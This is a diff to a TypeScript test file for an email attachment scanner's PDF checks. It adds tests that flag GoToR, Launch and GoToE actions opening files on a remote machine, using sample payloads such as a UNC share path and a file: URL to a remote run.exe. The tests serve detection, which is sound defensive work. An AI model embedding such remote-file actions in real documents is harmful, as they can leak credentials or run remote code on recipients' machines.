@@ -5,6 +5,8 @@ import { deflateSync } from 'node:zlib';
 import { describe, it } from 'node:test';
 import { newBudget } from '../../src/attachments/bounds.ts';
 import { scanPdf } from '../../src/attachments/pdf.ts';
+import { attachmentsDetector } from '../../src/detectors/attachments.ts';
+import { attachment, byCode, facts, run } from './helpers.ts';
 
 const latin1 = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));
 
@@ -60,6 +62,7 @@ describe('PDF scan cost', () => {
     const repeated = {
       'a filter name and no stream': '/FlateDecode ',
       'link strings never closed': '/URI (',
+      'file names never closed': '/F (',
       'tiny compressed streams': '1 0 obj <</Filter /FlateDecode>> stream\nx\nendstream endobj\n',
       'inline image starts': ' BI ',
       'open actions': '/OpenAction ',
@@ -109,5 +112,24 @@ describe('PDF stream filters', () => {
   it('leaves pictures encoded, and counts a stream that cannot be decoded', () => {
     assert.deepEqual(scan(objectStreamPdf('[/FlateDecode /DCTDecode]', flate)).uris, []);
     assert.equal(scan(objectStreamPdf('/FlateDecode', (data) => data.toString('latin1'))).skippedStreams, 1);
+  });
+});
+
+describe('PDF actions that open a file on another machine', () => {
+  it('says a GoToR to a UNC path is active, with the path (case 33)', async () => {
+    const unc = linkPdf('<< /S /GoToR /F (\\\\\\\\185.10.10.10\\\\share\\\\x.pdf) /D [0 /Fit] >>');
+    assert.deepEqual(scan(unc).active, ['GoToR: \\\\185.10.10.10\\share\\x.pdf']);
+    const findings = await run(attachmentsDetector, facts({ subject: 'Invoice', text: 'See attached.', attachments: [attachment('invoice.pdf', unc)] }));
+    assert.match(byCode(findings, 'ATTACH_PDF_ACTIVE').message.en, /\(GoToR: \\\\185\.10\.10\.10\\share\\x\.pdf\)/);
+  });
+
+  it('reads the file in a file specification, as a file: URL or in UTF-16', () => {
+    assert.deepEqual(scan(linkPdf('<< /S /Launch /Win << /F (file://185.10.10.10/share/run.exe) >> >>')).active, ['Launch: file://185.10.10.10/share/run.exe']);
+    const utf16 = Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from('//185.10.10.10/share/x.pdf', 'utf16le').swap16()]).toString('hex');
+    assert.deepEqual(scan(linkPdf(`<< /S /GoToE /F << /Type /Filespec /F (x.pdf) /UF <${utf16}> >> >>`)).active, ['GoToE: //185.10.10.10/share/x.pdf']);
+  });
+
+  it('leaves a link to another PDF beside it alone', () => {
+    assert.deepEqual(scan(linkPdf('<< /S /GoToR /F (appendix.pdf) /D [0 /Fit] >>')).active, []);
   });
 });
